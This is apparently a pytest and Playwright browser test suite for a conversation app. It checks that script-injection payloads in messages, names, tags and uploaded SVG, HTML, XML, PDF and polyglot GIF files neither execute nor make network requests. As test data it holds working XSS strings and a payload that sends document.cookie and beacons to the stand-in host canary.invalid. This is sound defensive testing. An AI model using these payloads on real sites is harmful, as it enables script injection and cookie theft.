"""What people, models and tools say or bring, wherever a page shows it: nothing runs, nothing is fetched, in a real browser."""

import base64
import json

import pytest
from playwright.sync_api import Error

from tests.browser import chromium, duo
from tests.corpus.markup import payloads
from tests.files import samples
from tests.stack import Stack

pytestmark = [pytest.mark.attacks, pytest.mark.browser, pytest.mark.timeout(300)]

CANARY = "canary.invalid"
START = """
    INSERT INTO conversations_conversation (id, organization_id, project_id, owner_id, title, title_source, visibility, system_prompt, tags,
        last_number, is_linear, input_tokens, output_tokens, cost, currency, last_activity_at, imported_digest, version, updated_at)
    SELECT gen_random_uuid(), p.organization_id, p.id, %s, %s, 'typed', 'project', %s, %s, %s, true, 0, 0, 0, '', now(), '', 1, now()
    FROM accounts_project p WHERE p.id = %s RETURNING id
"""
SAY = """
    INSERT INTO conversations_message (id, organization_id, conversation_id, number, role, author_id, parent_id, status, parts, content,
        answered_by, is_edit, created_at, updated_at)
    SELECT md5(c.id::text || %(number)s::int)::uuid, c.organization_id, c.id, %(number)s::int, %(role)s::text, CASE WHEN %(role)s::text = 'user' THEN c.owner_id END,
        CASE WHEN %(number)s::int > 1 THEN md5(c.id::text || (%(number)s::int - 1))::uuid END, 'completed', %(parts)s, %(text)s, %(label)s, false,
        now(), now()
    FROM conversations_conversation c WHERE c.id = %(conversation)s
"""
HEAD = """
    UPDATE conversations_conversation SET head_id = md5(id::text || last_number)::uuid WHERE id = %s
"""
RAN = """
    window.ran = [];
    for (const name of ["alert", "confirm", "prompt"]) window[name] = (what) => window.ran.push(`${name} ${what}`);
    document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) => window.ran.push(`${violatedDirective} ${blockedURI}`));
"""
ELEMENTS = (
    ".thread :is(script, iframe, object, embed, form, style, link, base, meta, math, svg:not(.icon, .avatar svg))"
)


@pytest.fixture(scope="module")
def stack():
    with Stack(interactives=0, jobs=0) as running:
        running.cast = duo.hire(running, "http://127.0.0.1:9/v1")
        yield running


@pytest.fixture(scope="module")
def browser():
    with chromium.launch() as running:
        yield running


@pytest.fixture
def page(browser, stack):
    """Signed in, with everything that ran or was asked for in ``page.ran()`` and ``page.asked``."""
    context = browser.new_context(storage_state=duo.signed_in(stack, "ines"), viewport={"width": 1440, "height": 900})
    page = context.new_page()
    page.goto(f"{stack.base_url}/")
    page.asked = []
    page.on("request", lambda request: stack.base_url in request.url or page.asked.append(request.url))
    page.on("dialog", lambda dialog: (page.asked.append(dialog.message), dialog.dismiss()))
    page.add_init_script(RAN)
    yield page
    context.close()


def parts_of(payload):
    name = payload.replace("\n", " ")
    return [
        {"type": "reasoning", "text": payload},
        {"type": "text", "text": payload},
        {"type": "tool_call", "id": name, "name": name, "arguments": json.dumps({"q": payload})},
        {"type": "tool_result", "id": name, "content": payload},
        {"type": "file", "file": "01a00000-0000-7000-8000-000000000001", "name": name, "media_type": name, "size": 1},
        {"type": "error", "code": name, "detail": payload},
    ]


def write(stack, said):
    """A conversation in which people and models say ``said``, with every name it has taken from the same words."""
    name = said[0].replace("\n", " ")[:100]
    who = (stack.cast["ines"], name, said[0], [name[:40]], 2 * len(said), stack.cast["project"])
    conversation = str(stack.sql(START, who)[0][0])
    for number, payload in enumerate((each for each in said for _twice in range(2)), start=1):
        role = "user" if number % 2 else "assistant"
        parts = [{"type": "text", "text": payload}] if number % 2 else parts_of(payload)
        row = {"conversation": conversation, "number": number, "role": role, "text": payload, "label": name[:40]}
        stack.sql(SAY, {**row, "parts": json.dumps(parts)})
    stack.sql(HEAD, [conversation])
    return conversation


def look(page, stack, path):
    page.goto(f"{stack.base_url}{path}")
    page.wait_for_selector("body[data-ready]", state="attached")
    page.wait_for_timeout(150)
    page.eval_on_selector_all("main details", "all => all.forEach((details) => { details.open = true; })")
    page.wait_for_timeout(50)
    assert page.evaluate("window.ran") == [], path
    assert page.asked == [], path
    assert page.locator(ELEMENTS).count() == 0, path
    addresses = page.eval_on_selector_all("main a[href]", "links => links.map((link) => link.protocol)")
    assert set(addresses) <= {"http:", "https:", "mailto:"}, path


def test_a35_words_of_people_models_and_tools_run_nothing(page, stack):
    said = payloads()
    for start in range(0, len(said), 24):  # as many as one window of the thread shows
        look(page, stack, f"/c/{write(stack, said[start : start + 24])}/")


@pytest.mark.parametrize(
    "payload", ["<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "</script><script>alert(1)</script>"]
)
def test_a35_names_titles_and_tags_run_nothing_on_any_page(page, stack, payload):
    conversation = write(stack, [payload])
    stack.sql("UPDATE accounts_user SET name = %s WHERE id = %s", [payload, stack.cast["daniel"]])
    stack.sql("UPDATE accounts_project SET name = %s WHERE id = %s", [payload, stack.cast["project"]])

    for path in (f"/c/{conversation}/", "/", "/conversations/", "/search/?q=alert", f"/search/?tag={conversation}"):
        look(page, stack, path)
    page.keyboard.press("Control+k")
    page.keyboard.type("alert")
    page.wait_for_timeout(500)
    page.goto(f"{stack.base_url}/c/{conversation}/")
    page.get_by_role("tab", name="People").click()
    page.wait_for_timeout(300)
    page.locator("#draft").fill("@")
    page.wait_for_timeout(500)

    assert page.evaluate("window.ran") == []
    assert page.asked == []


def test_a41_pictures_and_links_that_carry_secrets_fetch_nothing_and_name_their_host(page, stack):
    said = [payload for payload in payloads() if CANARY in payload]

    look(page, stack, f"/c/{write(stack, said)}/")

    shown = page.locator("a.remote-image")
    assert shown.count() >= 4
    assert all(CANARY in text for text in shown.all_inner_texts())


REACH = (
    "fetch('/ran?' + document.cookie); new Image().src = 'https://canary.invalid/ran'; "
    "(window.opener || parent).postMessage('ran', '*'); alert(document.domain)"
)
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{REACH}"><script>{REACH}</script></svg>'
HTML = f'<!doctype html><title>Minutes</title><body onload="{REACH}"><script>{REACH}</script>'
XML = f'<?xml version="1.0"?><minutes><script xmlns="http://www.w3.org/1999/xhtml">{REACH}</script></minutes>'
ACTION = (
    b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1); this.submitForm('https://canary.invalid/ran')) >>"
)
HOSTILE = {
    "drawing.svg": SVG.encode(),
    "drawing.png": SVG.encode(),
    "minutes.html": HTML.encode(),
    "minutes.txt": HTML.encode(),
    "minutes.xml": XML.encode(),
    "minutes.pdf": samples.pdf().replace(b"/Type /Catalog", ACTION),
    "notes.md": f"Notes of the night\n\n<script>{REACH}</script>".encode(),
    "picture.gif": samples.image(kind="GIF") + HTML.encode(),
}
UPLOAD = """async ([project, name, content]) => {
    const form = new FormData();
    form.append("project", project);
    form.append("file", new File([Uint8Array.from(atob(content), (letter) => letter.charCodeAt(0))], name));
    const headers = { "x-csrftoken": document.querySelector('meta[name="csrf-token"]').content };
    return (await fetch("/api/v1/attachments/", { method: "POST", headers, body: form })).json();
}"""
LISTEN = "<!doctype html><script>window.ran = []; onmessage = ({ data }) => window.ran.push(data);</script>"
SHOW = '<iframe src="{0}"></iframe><embed src="{0}"><object data="{0}"></object><img src="{0}"><link rel="stylesheet" href="{0}">'


def opened(page, address):
    """The document that the browser shows there; None where it takes a download instead."""
    try:
        answer = page.goto(address)
    except Error as refused:
        assert "ERR_ABORTED" in refused.message or "Download" in refused.message, refused.message  # noqa: PT017
        return None
    return answer if answer.status == 200 else None


def test_a38_files_that_are_opened_run_nothing_and_reach_nothing(page, stack):
    """By their own addresses, in a tab and within a page that would let them do everything."""
    reached = []
    page.context.on("request", lambda request: "/ran" in request.url and reached.append(request.url))
    page.context.on("dialog", lambda dialog: (reached.append(dialog.message), dialog.dismiss()))
    addresses = []
    for name, content in HOSTILE.items():
        file = page.evaluate(UPLOAD, [stack.cast["project"], name, base64.b64encode(content).decode()])
        ways = (file["url"], f"/files/{file['id']}/preview/", f"/api/v1/attachments/{file['id']}/download/")
        addresses += [stack.base_url + way for way in ways]

    tab, shown = page.context.new_page(), []
    for address in addresses:
        if opened(tab, address):
            shown.append(address)
            assert tab.evaluate("self.origin") == "null", address
            assert tab.locator("script").count() == 0, address
    assert 0 < len(shown) < len(addresses), "the harmless ones are shown, the others are downloads"

    page.route("**/bare/", lambda route: route.fulfill(body=LISTEN, content_type="text/html"))
    page.goto(f"{stack.base_url}/bare/")
    page.evaluate("html => document.body.insertAdjacentHTML('beforeend', html)", "".join(map(SHOW.format, addresses)))
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.ran") == []
    # What became a download has left its frame empty.
    written = [frame for frame in page.frames[1:] if frame.url not in ("", "about:blank")]
    assert all(frame.evaluate("self.origin") == "null" for frame in written)
    assert reached == []
    page.asked.clear()
